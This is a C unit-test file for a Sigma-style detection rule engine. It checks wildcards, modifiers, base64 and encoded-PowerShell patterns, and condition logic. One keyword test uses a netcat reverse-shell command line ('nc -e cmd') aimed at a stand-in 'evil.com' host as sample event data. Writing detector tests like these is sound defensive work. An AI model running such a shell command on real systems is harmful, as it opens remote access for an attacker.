/* Detection matching: values, wildcards, modifiers, conditions. */
#include "event_fixture.h"
#include "mh_test.h"
#include "rule/rule.h"

#include <pthread.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>

static mh_arena arena;

/* Build a ruleset from detection text (the lines under `detection:`,
 * indented by two spaces). NULL (and a message) on error. */
static mh_ruleset *det_rs(const char *det)
{
	char buf[8192];
	mh_ruleset *rs;
	mh_err err;

	snprintf(buf, sizeof(buf), "title: t\nid: r1\ndetection:\n%s\n", det);
	if (mh_ruleset_new(&rs))
		return NULL;
	mh_err_clear(&err);
	if (mh_ruleset_add_yaml(rs, "inline", buf, strlen(buf), &err) ||
	    mh_ruleset_compile(rs, &err)) {
		char msg[1024];
		mh_err_format(&err, msg, sizeof(msg));
		fprintf(stderr, "load error: %s\n--\n%s--\n", msg, buf);
		mh_ruleset_free(rs);
		return NULL;
	}
	return rs;
}

/* 1 if the one-selection rule `sel: <sel>` matches ev, 0 if not, -1 on a
 * load error. */
static int hit_det(const char *det, const mh_event *ev)
{
	mh_ruleset *rs = det_rs(det);
	mh_match_ctx *m;
	uint32_t out[4];
	size_t n;

	if (!rs)
		return -1;
	if (mh_match_ctx_new(rs, &m)) {
		mh_ruleset_free(rs);
		return -1;
	}
	n = mh_ruleset_match(rs, m, ev, out, 4);
	mh_match_ctx_free(m);
	mh_ruleset_free(rs);
	return n == 1 ? 1 : 0;
}

static int hit(const char *sel, const mh_event *ev)
{
	char buf[4096];
	snprintf(buf, sizeof(buf), "  sel:\n%s\n  condition: sel", sel);
	return hit_det(buf, ev);
}

/* One field value against one selection. */
static int hit1(const char *sel, mh_field f, const char *v)
{
	mh_event ev;
	ev_make(&ev, &arena, f, v, MH_F_NONE);
	return hit(sel, &ev);
}

#define CL  MH_F_COMMAND_LINE
#define IMG MH_F_IMAGE

static void test_plain_eq(void)
{
	MH_CHECK_EQ_INT(
	    hit1("    Image: C:\\Windows\\x.exe", IMG, "c:\\windows\\X.EXE"),
	    1);
	MH_CHECK_EQ_INT(hit1("    Image: x.exe", IMG, "y.exe"), 0);
	MH_CHECK_EQ_INT(hit1("    Image: x.exe", IMG, "ax.exe"), 0);
	/* unset field does not match */
	MH_CHECK_EQ_INT(hit1("    Image: x.exe", CL, "x.exe"), 0);
	/* list = OR */
	MH_CHECK_EQ_INT(hit1("    Image: [a, b, c]", IMG, "B"), 1);
	MH_CHECK_EQ_INT(hit1("    Image: [a, b, c]", IMG, "d"), 0);
	/* empty string */
	MH_CHECK_EQ_INT(hit1("    Image: ''", IMG, ""), 1);
	MH_CHECK_EQ_INT(hit1("    Image: ''", IMG, "a"), 0);
	/* aliases resolve to the canonical field */
	MH_CHECK_EQ_INT(hit1("    process.executable: a.exe", IMG, "A.exe"), 1);
}

static void test_non_ascii(void)
{
	/* ASCII folding only; UTF-8 bytes compare exactly */
	MH_CHECK_EQ_INT(hit1("    Image: 'Ä.exe'", IMG, "Ä.EXE"), 1);
	MH_CHECK_EQ_INT(hit1("    Image: 'Ä.exe'", IMG, "ä.exe"), 0);
	MH_CHECK_EQ_INT(hit1("    Image|contains: 'é'", IMG, "café"), 1);
}

static void test_big_list_set(void)
{
	const char *sel = "    ProcessName: [a.exe, b.exe, c.exe, d.exe, "
			  "e.exe, f.exe, g.exe, h.exe, i.exe, j.exe, "
			  "'*.tmp', k.exe]";
	MH_CHECK_EQ_INT(hit1(sel, MH_F_PROCESS_NAME, "J.EXE"), 1);
	MH_CHECK_EQ_INT(hit1(sel, MH_F_PROCESS_NAME, "K.exe"), 1);
	MH_CHECK_EQ_INT(hit1(sel, MH_F_PROCESS_NAME, "x.TMP"), 1);
	MH_CHECK_EQ_INT(hit1(sel, MH_F_PROCESS_NAME, "z.exe"), 0);
}

static void test_numbers(void)
{
	MH_CHECK_EQ_INT(
	    hit1("    DestinationPort: 25", MH_F_DESTINATION_PORT, "25"), 1);
	MH_CHECK_EQ_INT(
	    hit1("    DestinationPort: 25", MH_F_DESTINATION_PORT, "250"), 0);
	/* integer field: numeric comparison ("025" == 25) */
	MH_CHECK_EQ_INT(
	    hit1("    DestinationPort: 25", MH_F_DESTINATION_PORT, "025"), 1);
	MH_CHECK_EQ_INT(hit1("    DestinationPort: [25, 465, 587]",
			     MH_F_DESTINATION_PORT, "587"),
			1);
	MH_CHECK_EQ_INT(hit1("    DestinationPort: [25, 465, 587]",
			     MH_F_DESTINATION_PORT, "smtp"),
			0);
	/* a string field compares text */
	MH_CHECK_EQ_INT(hit1("    CommandLine: 25", CL, "25"), 1);
	MH_CHECK_EQ_INT(hit1("    CommandLine: 25", CL, "025"), 0);
	/* wildcard on an int field: text */
	MH_CHECK_EQ_INT(
	    hit1("    DestinationPort: '4*'", MH_F_DESTINATION_PORT, "465"), 1);
}

static void test_wildcards(void)
{
	MH_CHECK_EQ_INT(
	    hit1("    Image: '*\\cmd.exe'", IMG, "C:\\Windows\\CMD.exe"), 1);
	MH_CHECK_EQ_INT(hit1("    Image: '*\\cmd.exe'", IMG, "cmd.exe"), 0);
	MH_CHECK_EQ_INT(hit1("    Image: 'C:\\\\*'", IMG, "c:\\x"), 1);
	/* 'C:\*' is a literal star (Sigma escaping) */
	MH_CHECK_EQ_INT(hit1("    Image: 'C:\\*'", IMG, "c:\\x"), 0);
	MH_CHECK_EQ_INT(hit1("    Image: 'C:\\*'", IMG, "C:*"), 1);
	MH_CHECK_EQ_INT(hit1("    Image: '*sys*'", IMG, "a\\SYSTEM32"), 1);
	MH_CHECK_EQ_INT(hit1("    Image: 'a?c'", IMG, "abc"), 1);
	MH_CHECK_EQ_INT(hit1("    Image: 'a?c'", IMG, "ac"), 0);
	MH_CHECK_EQ_INT(hit1("    Image: 'a*b*c'", IMG, "aXXbYYc"), 1);
	MH_CHECK_EQ_INT(hit1("    Image: 'a*b*c'", IMG, "aXXcYYb"), 0);
	MH_CHECK_EQ_INT(hit1("    Image: '*'", IMG, ""), 1);
	MH_CHECK_EQ_INT(hit1("    Image: '*'", CL, "x"), 0);
	/* escapes: \* literal star, \? literal ?, \\ backslash */
	MH_CHECK_EQ_INT(hit1("    CommandLine: 'a\\*b'", CL, "a*b"), 1);
	MH_CHECK_EQ_INT(hit1("    CommandLine: 'a\\*b'", CL, "aXb"), 0);
	MH_CHECK_EQ_INT(hit1("    CommandLine: 'a\\?b'", CL, "a?b"), 1);
	MH_CHECK_EQ_INT(hit1("    CommandLine: 'a\\?b'", CL, "axb"), 0);
	MH_CHECK_EQ_INT(hit1("    CommandLine: 'a\\\\*'", CL, "a\\zzz"), 1);
	MH_CHECK_EQ_INT(hit1("    CommandLine: 'a\\\\*'", CL, "azzz"), 0);
	MH_CHECK_EQ_INT(hit1("    CommandLine: 'a\\\\\\*'", CL, "a\\*"), 1);
	/* a lone backslash stays literal */
	MH_CHECK_EQ_INT(hit1("    CommandLine: 'C:\\Temp'", CL, "c:\\temp"), 1);
}

static void test_null_exists(void)
{
	mh_event ev;

	ev_make(&ev, &arena, IMG, "x", MH_F_NONE);
	MH_CHECK_EQ_INT(hit("    CommandLine: null", &ev), 1);
	MH_CHECK_EQ_INT(hit("    Image: null", &ev), 0);
	MH_CHECK_EQ_INT(hit("    CommandLine: [null, a]", &ev), 1);
	MH_CHECK_EQ_INT(hit("    Image: [null, x]", &ev), 1);
	MH_CHECK_EQ_INT(hit("    Image|exists: true", &ev), 1);
	MH_CHECK_EQ_INT(hit("    Image|exists: false", &ev), 0);
	MH_CHECK_EQ_INT(hit("    CommandLine|exists: false", &ev), 1);
	MH_CHECK_EQ_INT(hit("    CommandLine|exists: true", &ev), 0);
	/* empty string is set, not null */
	ev_make(&ev, &arena, IMG, "", MH_F_NONE);
	MH_CHECK_EQ_INT(hit("    Image: null", &ev), 0);
	MH_CHECK_EQ_INT(hit("    Image|exists: true", &ev), 1);
}

static void test_contains_starts_ends(void)
{
	MH_CHECK_EQ_INT(hit1("    CommandLine|contains: SMTP", CL,
			     "x send-mailmessage -smtpserver y"),
			1);
	MH_CHECK_EQ_INT(hit1("    CommandLine|contains: SMTP", CL, "imap"), 0);
	MH_CHECK_EQ_INT(
	    hit1("    CommandLine|startswith: power", CL, "PowerShell -c"), 1);
	MH_CHECK_EQ_INT(
	    hit1("    CommandLine|startswith: power", CL, "xpowershell"), 0);
	MH_CHECK_EQ_INT(hit1("    CommandLine|endswith: .ps1", CL, "run a.PS1"),
			1);
	MH_CHECK_EQ_INT(hit1("    CommandLine|endswith: .ps1", CL, "a.ps1 x"),
			0);
	/* wildcards inside contains keep working */
	MH_CHECK_EQ_INT(
	    hit1("    CommandLine|contains: 'a*z'", CL, "xxabbbzyy"), 1);
	MH_CHECK_EQ_INT(hit1("    CommandLine|contains: 'a*z'", CL, "zxa"), 0);
}

static void test_all(void)
{
	MH_CHECK_EQ_INT(hit1("    CommandLine|contains|all: [mail, -to, -body]",
			     CL, "send-MAIL -To x -body y"),
			1);
	MH_CHECK_EQ_INT(hit1("    CommandLine|contains|all: [mail, -to, -body]",
			     CL, "send-mail -to x"),
			0);
	/* without all: any */
	MH_CHECK_EQ_INT(hit1("    CommandLine|contains: [mail, -to, -body]", CL,
			     "send-mail"),
			1);
}

static void test_cased(void)
{
	MH_CHECK_EQ_INT(hit1("    CommandLine|cased: Abc", CL, "Abc"), 1);
	MH_CHECK_EQ_INT(hit1("    CommandLine|cased: Abc", CL, "abc"), 0);
	MH_CHECK_EQ_INT(
	    hit1("    CommandLine|contains|cased: SMTP", CL, "x SMTP y"), 1);
	MH_CHECK_EQ_INT(
	    hit1("    CommandLine|contains|cased: SMTP", CL, "x smtp y"), 0);
	MH_CHECK_EQ_INT(hit1("    CommandLine: Abc", CL, "aBC"), 1);
}

static void test_neq(void)
{
	MH_CHECK_EQ_INT(hit1("    CommandLine|neq: abc", CL, "abd"), 1);
	MH_CHECK_EQ_INT(hit1("    CommandLine|neq: abc", CL, "ABC"), 0);
	MH_CHECK_EQ_INT(hit1("    CommandLine|neq: [a, b]", CL, "b"), 0);
	MH_CHECK_EQ_INT(hit1("    CommandLine|neq: [a, b]", CL, "c"), 1);
	/* unset field: neq does not match */
	MH_CHECK_EQ_INT(hit1("    CommandLine|neq: abc", IMG, "x"), 0);
}

static void test_re(void)
{
	MH_CHECK_EQ_INT(hit1("    CommandLine|re: 'smtp\\.[a-z]+\\.com'", CL,
			     "connect smtp.evil.com:25"),
			1);
	MH_CHECK_EQ_INT(hit1("    CommandLine|re: 'smtp\\.[a-z]+\\.com'", CL,
			     "connect imap.evil.com"),
			0);
	/* re is case-sensitive unless |i */
	MH_CHECK_EQ_INT(hit1("    CommandLine|re: 'SMTP'", CL, "smtp"), 0);
	MH_CHECK_EQ_INT(hit1("    CommandLine|re|i: 'SMTP'", CL, "smtp"), 1);
	/* m: ^ at line starts; s: dot matches newline */
	MH_CHECK_EQ_INT(hit1("    CommandLine|re: '^b'", CL, "a\nb"), 0);
	MH_CHECK_EQ_INT(hit1("    CommandLine|re|m: '^b'", CL, "a\nb"), 1);
	MH_CHECK_EQ_INT(hit1("    CommandLine|re: 'a.b'", CL, "a\nb"), 0);
	MH_CHECK_EQ_INT(hit1("    CommandLine|re|s: 'a.b'", CL, "a\nb"), 1);
	/* several patterns (merged into one alternation internally) */
	{
		const char *sel = "    Image|re:\n"
				  "      - '(?i)^c:\\\\mail\\.exe$'\n"
				  "      - '^/usr/bin/mutt$'\n"
				  "      - '(a)\\1x'\n"
				  "      - 'end$'\n"
				  "      - '^(q|y)$'";
		MH_CHECK_EQ_INT(hit1(sel, IMG, "C:\\MAIL.exe"), 1);
		MH_CHECK_EQ_INT(hit1(sel, IMG, "/usr/bin/mutt"), 1);
		MH_CHECK_EQ_INT(hit1(sel, IMG, "/USR/bin/mutt"), 0);
		MH_CHECK_EQ_INT(hit1(sel, IMG, "zzaax"), 1);
		MH_CHECK_EQ_INT(hit1(sel, IMG, "zzabx"), 0);
		MH_CHECK_EQ_INT(hit1(sel, IMG, "the end"), 1);
		MH_CHECK_EQ_INT(hit1(sel, IMG, "END"), 0);
		MH_CHECK_EQ_INT(hit1(sel, IMG, "y"), 1);
		MH_CHECK_EQ_INT(hit1(sel, IMG, "c:\\mail.exe2"), 0);
		/* the (?i) of the first pattern does not leak */
		MH_CHECK_EQ_INT(hit1(sel, IMG, "THE END"), 0);
	}
	/* unanchored; wildcards are not special */
	MH_CHECK_EQ_INT(hit1("    CommandLine|re: 'b*c'", CL, "xxcyy"), 1);
}

static void test_cidr(void)
{
	MH_CHECK_EQ_INT(hit1("    DestinationIp|cidr: 10.0.0.0/8",
			     MH_F_DESTINATION_IP, "10.1.2.3"),
			1);
	MH_CHECK_EQ_INT(hit1("    DestinationIp|cidr: 10.0.0.0/8",
			     MH_F_DESTINATION_IP, "11.1.2.3"),
			0);
	MH_CHECK_EQ_INT(hit1("    DestinationIp|cidr: [192.168.0.0/16, "
			     "'fd00::/8']",
			     MH_F_DESTINATION_IP, "fd12::1"),
			1);
	MH_CHECK_EQ_INT(hit1("    DestinationIp|cidr: 10.0.0.0/8",
			     MH_F_DESTINATION_IP, "not-an-ip"),
			0);
}

static void test_numeric_cmp(void)
{
	mh_field f = MH_F_BYTES_SENT;
	MH_CHECK_EQ_INT(hit1("    BytesSent|gt: 1000", f, "1001"), 1);
	MH_CHECK_EQ_INT(hit1("    BytesSent|gt: 1000", f, "1000"), 0);
	MH_CHECK_EQ_INT(hit1("    BytesSent|gte: 1000", f, "1000"), 1);
	MH_CHECK_EQ_INT(hit1("    BytesSent|lt: 10", f, "9"), 1);
	MH_CHECK_EQ_INT(hit1("    BytesSent|lt: 10", f, "10"), 0);
	MH_CHECK_EQ_INT(hit1("    BytesSent|lte: 10", f, "10"), 1);
	MH_CHECK_EQ_INT(hit1("    BytesSent|lte: 10.5", f, "10.25"), 1);
	MH_CHECK_EQ_INT(hit1("    BytesSent|gt: 10", f, "abc"), 0);
	MH_CHECK_EQ_INT(hit1("    BytesSent|gt: -5", f, "-4"), 1);
}

static void test_base64(void)
{
	/* "cmd" -> Y21k */
	MH_CHECK_EQ_INT(hit1("    CommandLine|base64: cmd", CL, "Y21k"), 1);
	MH_CHECK_EQ_INT(hit1("    CommandLine|base64: cmd", CL, "Y21kx"), 0);
	MH_CHECK_EQ_INT(
	    hit1("    CommandLine|base64|contains: cmd", CL, "xxY21kxx"), 1);
	/* "ab" -> YWI= (padding kept, like Sigma) */
	MH_CHECK_EQ_INT(hit1("    CommandLine|base64: ab", CL, "YWI="), 1);
}

static void test_base64offset(void)
{
	/* base64("Xhttp://") variants: the three shifted encodings of
	 * "http://" must all be found in real encodings */
	const char *sel = "    CommandLine|base64offset|contains: 'http://'";
	/* base64("http://x")      = aHR0cDovL3g=   (offset 0)
	 * base64("ahttp://x")     = YWh0dHA6Ly94   (offset 1)
	 * base64("abhttp://x")    = YWJodHRwOi8veA== (offset 2) */
	MH_CHECK_EQ_INT(hit1(sel, CL, "powershell -e aHR0cDovL3g="), 1);
	MH_CHECK_EQ_INT(hit1(sel, CL, "YWh0dHA6Ly94"), 1);
	MH_CHECK_EQ_INT(hit1(sel, CL, "YWJodHRwOi8veA=="), 1);
	MH_CHECK_EQ_INT(hit1(sel, CL, "aGVsbG8gd29ybGQ="), 0);
}

static void test_utf16(void)
{
	/* "ab" wide = a\0b\0 ; base64 = YQBiAA== */
	MH_CHECK_EQ_INT(hit1("    CommandLine|wide|base64: ab", CL, "YQBiAA=="),
			1);
	MH_CHECK_EQ_INT(
	    hit1("    CommandLine|utf16le|base64: ab", CL, "YQBiAA=="), 1);
	/* utf16be: \0a\0b = AGEAYg== */
	MH_CHECK_EQ_INT(
	    hit1("    CommandLine|utf16be|base64: ab", CL, "AGEAYg=="), 1);
	MH_CHECK_EQ_INT(
	    hit1("    CommandLine|utf16be|base64: ab", CL, "YQBiAA=="), 0);
	/* utf16 = BOM + LE: ff fe 61 00 -> //5hAA== */
	MH_CHECK_EQ_INT(hit1("    CommandLine|utf16|base64: a", CL, "//5hAA=="),
			1);
	/* wide|base64offset|contains: encoded PowerShell "http" */
	{
		/* base64(utf16le("http")) = aAB0AHQAcAA= */
		MH_CHECK_EQ_INT(hit1("    CommandLine|wide|base64offset|"
				     "contains: http",
				     CL, "-enc aAB0AHQAcAA="),
				1);
		MH_CHECK_EQ_INT(hit1("    CommandLine|wide|base64offset|"
				     "contains: http",
				     CL, "-enc aHR0cA=="),
				0);
	}
	/* a raw wide value (bytes with NULs) */
	{
		mh_event ev;
		static const char w[] = {'x', 'a', 0, 'b', 0, 'y'};
		mh_event_clear(&ev);
		ev.arena = &arena;
		mh_event_set(&ev, CL, w, sizeof(w));
		MH_CHECK_EQ_INT(hit("    CommandLine|wide|contains: ab", &ev),
				1);
		MH_CHECK_EQ_INT(hit("    CommandLine|contains: ab", &ev), 0);
	}
}

static void test_windash(void)
{
	const char *sel = "    CommandLine|windash|contains: ' -enc '";
	MH_CHECK_EQ_INT(hit1(sel, CL, "powershell -enc AAA"), 1);
	MH_CHECK_EQ_INT(hit1(sel, CL, "powershell /enc AAA"), 1);
	MH_CHECK_EQ_INT(hit1(sel, CL,
			     "powershell \xe2\x80\x93"
			     "enc AAA"),
			1);
	MH_CHECK_EQ_INT(hit1(sel, CL,
			     "powershell \xe2\x80\x94"
			     "enc AAA"),
			1);
	MH_CHECK_EQ_INT(hit1(sel, CL,
			     "powershell \xe2\x80\x95"
			     "enc AAA"),
			1);
	MH_CHECK_EQ_INT(hit1(sel, CL, "powershell +enc AAA"), 0);
	/* a dash inside a word is not replaced */
	MH_CHECK_EQ_INT(hit1("    CommandLine|windash: 'a-b'", CL, "a/b"), 0);
	MH_CHECK_EQ_INT(hit1("    CommandLine|windash: 'a-b'", CL, "a-b"), 1);
}

static void test_fieldref(void)
{
	mh_event ev;

	ev_make(&ev, &arena, MH_F_SOURCE_IP, "10.0.0.1", MH_F_DESTINATION_IP,
		"10.0.0.1", MH_F_USER, "Bob", MH_F_COMMAND_LINE,
		"run as BOB now", MH_F_NONE);
	MH_CHECK_EQ_INT(hit("    SourceIp|fieldref: DestinationIp", &ev), 1);
	MH_CHECK_EQ_INT(hit("    SourceIp|fieldref: Computer", &ev), 0);
	MH_CHECK_EQ_INT(hit("    CommandLine|fieldref|contains: User", &ev), 1);
	MH_CHECK_EQ_INT(
	    hit("    CommandLine|fieldref|contains|cased: User", &ev), 0);
	MH_CHECK_EQ_INT(hit("    CommandLine|fieldref|startswith: User", &ev),
			0);
	MH_CHECK_EQ_INT(hit("    CommandLine|fieldref: User", &ev), 0);
	MH_CHECK_EQ_INT(hit("    CommandLine|fieldref|neq: User", &ev), 1);
}

static void test_expand(void)
{
	const char *y =
	    "mailhunt-placeholders:\n"
	    "  mail_clients: ['*\\outlook.exe', '*\\thunderbird.exe']\n"
	    "---\n"
	    "title: t\n"
	    "detection:\n"
	    "  sel:\n"
	    "    Image|expand: '%mail_clients%'\n"
	    "  condition: sel\n";
	mh_ruleset *rs;
	mh_match_ctx *m;
	mh_event ev;
	uint32_t out[2];

	MH_CHECK(mh_ruleset_new(&rs) == MH_OK);
	MH_CHECK(mh_ruleset_add_yaml(rs, "x", y, strlen(y), NULL) == MH_OK);
	MH_CHECK(mh_ruleset_compile(rs, NULL) == MH_OK);
	MH_CHECK(mh_match_ctx_new(rs, &m) == MH_OK);
	ev_make(&ev, &arena, IMG, "C:\\P\\THUNDERBIRD.exe", MH_F_NONE);
	MH_CHECK_EQ_INT(mh_ruleset_match(rs, m, &ev, out, 2), 1);
	ev_make(&ev, &arena, IMG, "C:\\P\\chrome.exe", MH_F_NONE);
	MH_CHECK_EQ_INT(mh_ruleset_match(rs, m, &ev, out, 2), 0);
	mh_match_ctx_free(m);
	mh_ruleset_free(rs);
	/* unresolved placeholder: error */
	MH_CHECK(det_rs("  sel:\n    Image|expand: '%nope%'\n"
			"  condition: sel") == NULL);
}

static void test_keywords(void)
{
	mh_event ev;

	ev_make(&ev, &arena, IMG, "C:\\x\\nc.exe", CL,
		"nc -e cmd smtp.evil.com", MH_F_NONE);
	MH_CHECK_EQ_INT(hit_det("  keywords:\n    - evil.com\n    - zzz\n"
				"  condition: keywords",
				&ev),
			1);
	MH_CHECK_EQ_INT(hit_det("  keywords:\n    - zzz\n"
				"  condition: keywords",
				&ev),
			0);
	MH_CHECK_EQ_INT(hit_det("  keywords: 'NC.EXE'\n"
				"  condition: keywords",
				&ev),
			1);
	/* list of maps = OR */
	MH_CHECK_EQ_INT(hit_det("  sel:\n    - Image: a\n    - CommandLine|"
				"contains: smtp\n  condition: sel",
				&ev),
			1);
	MH_CHECK_EQ_INT(hit_det("  sel:\n    - Image: a\n    - CommandLine|"
				"contains: pop3\n  condition: sel",
				&ev),
			0);
	/* map = AND */
	MH_CHECK_EQ_INT(hit_det("  sel:\n    Image|endswith: nc.exe\n"
				"    CommandLine|contains: pop3\n"
				"  condition: sel",
				&ev),
			0);
	MH_CHECK_EQ_INT(hit_det("  sel:\n    Image|endswith: nc.exe\n"
				"    CommandLine|contains: smtp\n"
				"  condition: sel",
				&ev),
			1);
}

static void test_multi(void)
{
	mh_event ev;
	static const char v[] = "start\x1f"
				"connection\x1f"
				"end";

	mh_event_clear(&ev);
	ev.arena = &arena;
	mh_event_set(&ev, MH_F_EVENT_TYPE, v, sizeof(v) - 1);
	mh_fieldset_add(&ev.multi, MH_F_EVENT_TYPE);
	MH_CHECK_EQ_INT(hit("    EventType: connection", &ev), 1);
	MH_CHECK_EQ_INT(hit("    EventType: end", &ev), 1);
	MH_CHECK_EQ_INT(hit("    EventType: 'start*end'", &ev), 0);
	MH_CHECK_EQ_INT(hit("    EventType: denied", &ev), 0);
	MH_CHECK_EQ_INT(hit("    EventType|all: [start, end]", &ev), 1);
	MH_CHECK_EQ_INT(hit("    EventType|all: [start, denied]", &ev), 0);
	/* the same bytes as a single value */
	mh_event_clear(&ev);
	mh_event_set(&ev, MH_F_EVENT_TYPE, v, sizeof(v) - 1);
	MH_CHECK_EQ_INT(hit("    EventType: connection", &ev), 0);
}

static void test_conditions(void)
{
	mh_event ev;
	const char *sels = "  a:\n    Image: a\n  b:\n    CommandLine: b\n"
			   "  c:\n    User: c\n  _x:\n    Computer: h\n";
	char buf[1024];
	struct {
		const char *cond;
		int want;
	} cases[] = {
	    /* event: Image=a, CommandLine=b, User=zz, Computer=h */
	    {"a", 1},
	    {"c", 0},
	    {"a and b", 1},
	    {"a and c", 0},
	    {"a or c", 1},
	    {"not c", 1},
	    {"not a", 0},
	    {"a and not c", 1},
	    {"c or a and b", 1}, /* and binds tighter */
	    {"c and a or b", 1}, /* (c and a) or b */
	    {"c and (a or b)", 0},
	    {"not a or b", 1}, /* (not a) or b */
	    {"not (a or c)", 0},
	    {"not not a", 1},
	    {"1 of them", 1},
	    {"all of them", 0},
	    {"any of them", 1},
	    {"all of a*", 1},
	    {"1 of ?", 1},
	    {"all of _*", 1}, /* explicit pattern includes _x */
	    {"1 of c*", 0},
	    {"((a))", 1},
	    {"a AND b", 1},
	    {"all of them or a", 1},
	};

	ev_make(&ev, &arena, IMG, "a", CL, "b", MH_F_USER, "zz", MH_F_HOST, "h",
		MH_F_NONE);
	for (size_t i = 0; i < MH_ARRAY_LEN(cases); i++) {
		int got;
		snprintf(buf, sizeof(buf), "%s  condition: %s", sels,
			 cases[i].cond);
		got = hit_det(buf, &ev);
		if (got != cases[i].want)
			fprintf(stderr, "condition '%s': got %d\n",
				cases[i].cond, got);
		MH_CHECK_EQ_INT(got, cases[i].want);
	}
	/* `them` skips _-prefixed selections: all of them with only a, b */
	ev_make(&ev, &arena, IMG, "a", CL, "b", MH_F_USER, "c", MH_F_NONE);
	snprintf(buf, sizeof(buf), "%s  condition: all of them", sels);
	MH_CHECK_EQ_INT(hit_det(buf, &ev), 1);
	/* a list of conditions = OR */
	MH_CHECK_EQ_INT(hit_det("  a:\n    Image: q\n  b:\n    Image: a\n"
				"  condition:\n    - a\n    - b",
				&ev),
			1);
}

static void test_match_order_and_cap(void)
{
	const char *y = "title: one\ndetection:\n  s:\n    Image: a\n"
			"  condition: s\n---\n"
			"title: two\ndetection:\n  s:\n    User: u\n"
			"  condition: s\n---\n"
			"title: three\ndetection:\n  s:\n    Image: '*'\n"
			"  condition: s\n";
	mh_ruleset *rs;
	mh_match_ctx *m;
	mh_event ev;
	uint32_t out[3];

	MH_CHECK(mh_ruleset_new(&rs) == MH_OK);
	MH_CHECK(mh_ruleset_add_yaml(rs, "x", y, strlen(y), NULL) == MH_OK);
	MH_CHECK(mh_ruleset_compile(rs, NULL) == MH_OK);
	MH_CHECK(mh_match_ctx_new(rs, &m) == MH_OK);
	ev_make(&ev, &arena, IMG, "A", MH_F_NONE);
	MH_CHECK_EQ_INT(mh_ruleset_match(rs, m, &ev, out, 3), 2);
	MH_CHECK_EQ_INT(out[0], 0);
	MH_CHECK_EQ_INT(out[1], 2);
	MH_CHECK_EQ_INT(mh_ruleset_match(rs, m, &ev, out, 1), 1);
	MH_CHECK_EQ_INT(out[0], 0);
	mh_match_ctx_free(m);
	mh_ruleset_free(rs);
}

/* Distinct contexts on one shared ruleset from several threads. */
struct thr {
	const mh_ruleset *rs;
	size_t hits;
	int rc;
};

static void *thr_run(void *arg)
{
	struct thr *t = arg;
	mh_match_ctx *m;
	mh_arena a;
	mh_event ev;
	uint32_t out[4];
	static const char *imgs[] = {"C:\\x\\MAILER.exe", "c:\\y\\z.exe",
				     "/usr/bin/mutt", "C:\\mail.exe"};

	mh_arena_init(&a, 1024, 0);
	t->rc = mh_match_ctx_new(t->rs, &m);
	if (t->rc)
		return NULL;
	for (int i = 0; i < 20000; i++) {
		const char *v = imgs[i & 3];
		mh_event_clear(&ev);
		ev.arena = &a;
		mh_event_set(&ev, IMG, v, strlen(v));
		mh_event_set(&ev, MH_F_DESTINATION_PORT, "587", 3);
		t->hits += mh_ruleset_match(t->rs, m, &ev, out, 4);
	}
	mh_match_ctx_free(m);
	mh_arena_free(&a);
	return NULL;
}

static void test_threads(void)
{
	mh_ruleset *rs = det_rs("  sel:\n    DestinationPort: [25, 587]\n"
				"    Image|re|i: '\\\\mail[^\\\\]*\\.exe$'\n"
				"  condition: sel");
	pthread_t th[4];
	struct thr t[4];

	MH_CHECK(rs != NULL);
	if (!rs)
		return;
	for (int i = 0; i < 4; i++) {
		t[i].rs = rs;
		t[i].hits = 0;
		t[i].rc = 0;
		MH_CHECK(pthread_create(&th[i], NULL, thr_run, &t[i]) == 0);
	}
	for (int i = 0; i < 4; i++) {
		pthread_join(th[i], NULL);
		MH_CHECK_EQ_INT(t[i].rc, MH_OK);
		/* MAILER.exe and mail.exe match: half of the events */
		MH_CHECK_EQ_INT(t[i].hits, 10000);
	}
	mh_ruleset_free(rs);
}

int main(void)
{
	mh_arena_init(&arena, 4096, 0);
	MH_RUN(test_plain_eq);
	MH_RUN(test_non_ascii);
	MH_RUN(test_big_list_set);
	MH_RUN(test_numbers);
	MH_RUN(test_wildcards);
	MH_RUN(test_null_exists);
	MH_RUN(test_contains_starts_ends);
	MH_RUN(test_all);
	MH_RUN(test_cased);
	MH_RUN(test_neq);
	MH_RUN(test_re);
	MH_RUN(test_cidr);
	MH_RUN(test_numeric_cmp);
	MH_RUN(test_base64);
	MH_RUN(test_base64offset);
	MH_RUN(test_utf16);
	MH_RUN(test_windash);
	MH_RUN(test_fieldref);
	MH_RUN(test_expand);
	MH_RUN(test_keywords);
	MH_RUN(test_multi);
	MH_RUN(test_conditions);
	MH_RUN(test_match_order_and_cap);
	MH_RUN(test_threads);
	mh_arena_free(&arena);
	MH_DONE();
}
